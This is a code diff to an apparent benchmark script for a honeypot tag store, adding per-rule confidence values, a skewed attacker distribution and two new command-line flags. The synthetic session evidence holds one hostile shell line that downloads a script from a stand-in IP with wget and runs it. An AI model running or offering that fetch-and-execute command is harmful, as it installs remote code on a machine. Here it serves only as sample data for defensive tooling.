@@ -38,37 +38,42 @@ from decnet_ttp.tag_store.database import Database
 from decnet_ttp.v1 import scope_pb2, tag_pb2, tag_store_service_pb2
 from decnet_ttp.v1.tag_store_service_pb2_grpc import TagStoreServiceStub
 
-#: Cells of a usual brute-force-then-drop session: tactic, technique, sub-technique, rule.
+#: What usual sessions show: tactic, technique, sub-technique, rule, the rule's confidence.
 CELLS = (
-    ("TA0002", "T1059", "T1059.004", "R0010"),
-    ("TA0011", "T1105", "", "R0012"),
-    ("TA0007", "T1082", "", "R0018"),
-    ("TA0006", "T1110", "T1110.001", "R0002"),
-    ("TA0003", "T1053", "T1053.003", "R0025"),
-    ("TA0005", "T1070", "T1070.003", "R0028"),
-    ("TA0007", "T1033", "", "R0019"),
-    ("TA0040", "T1496", "", "R0061"),
+    ("TA0002", "T1059", "T1059.004", "R0010", 0.9),
+    ("TA0011", "T1105", "", "R0012", 0.85),
+    ("TA0007", "T1082", "", "R0018", 0.7),
+    ("TA0006", "T1110", "T1110.001", "R0002", 0.85),
+    ("TA0003", "T1053", "T1053.003", "R0025", 0.9),
+    ("TA0005", "T1070", "T1070.003", "R0028", 0.9),
+    ("TA0007", "T1033", "", "R0019", 0.7),
+    ("TA0040", "T1496", "", "R0061", 0.9),
 )
 START_S = 1_772_712_000
+
+
+def attacker(chance: random.Random, options: argparse.Namespace) -> int:
+    """Return a number for an attacker: a few make most of the sessions, as in any fleet's log."""
+    if options.even:
+        return 1 + chance.randrange(options.attackers)
+    return 1 + int(chance.paretovariate(1.0)) % options.attackers
 
 
 def make_request(
     chance: random.Random, number: int, options: argparse.Namespace
 ) -> tag_store_service_pb2.InsertTagsRequest:
     """Return a batch of sessions, each with its tags."""
-    request = tag_store_service_pb2.InsertTagsRequest()
+    request = tag_store_service_pb2.InsertTagsRequest(silent=options.silent)
     for index in range(options.sessions):
         session = f"{number:04x}{index:08x}"
         group = request.groups.add(
             origin_id=f"sensor-1/{session}",
-            anchor=scope_pb2.Anchor(
-                attacker_uuid=str(UUID(int=1 + chance.randrange(options.attackers)))
-            ),
+            anchor=scope_pb2.Anchor(attacker_uuid=str(UUID(int=attacker(chance, options)))),
             session_id=session,
             decky_id=f"decky-{index % 20}",
         )
         for place in range(options.tags):
-            tactic, technique, sub, rule = chance.choice(CELLS)
+            tactic, technique, sub, rule, confidence = chance.choice(CELLS)
             group.tags.append(
                 tag_pb2.TagDraft(
                     source_kind="command",
@@ -79,7 +84,7 @@ def make_request(
                     tactic=tactic,
                     technique_id=technique,
                     sub_technique_id=sub,
-                    confidence=chance.choice((0.7, 0.85, 0.9)),
+                    confidence=confidence,
                     evidence=tag_pb2.Evidence(
                         command=tag_pb2.CommandEvidence(
                             command_text="cd /tmp; wget http://192.0.2.7/bins.sh; sh bins.sh",
@@ -194,7 +199,8 @@ async def report(options: argparse.Namespace, took: dict[str, list[float]], pid:
     tags = per_batch * options.batches
     print(
         f"{options.batches} batches of {options.sessions} sessions x {options.tags} tags, "
-        f"{options.attackers} attackers, fsync {'on' if options.durable else 'off'}"
+        f"{options.attackers} attackers{' equally busy' if options.even else ''}, "
+        f"fsync {'on' if options.durable else 'off'}{', not announced' if options.silent else ''}"
     )
     rates = {key: tags / sum(values) for key, values in took.items()}
     for key, title in (
@@ -248,6 +254,8 @@ def main() -> None:
     parser.add_argument("--sessions", type=int, default=500)
     parser.add_argument("--tags", type=int, default=5)
     parser.add_argument("--attackers", type=int, default=2_000)
+    parser.add_argument("--even", action="store_true", help="every attacker equally busy")
+    parser.add_argument("--silent", action="store_true", help="store without announcing")
     parser.add_argument("--durable", action="store_true", help="fsync on, as in production")
     asyncio.run(measure(parser.parse_args()))
 
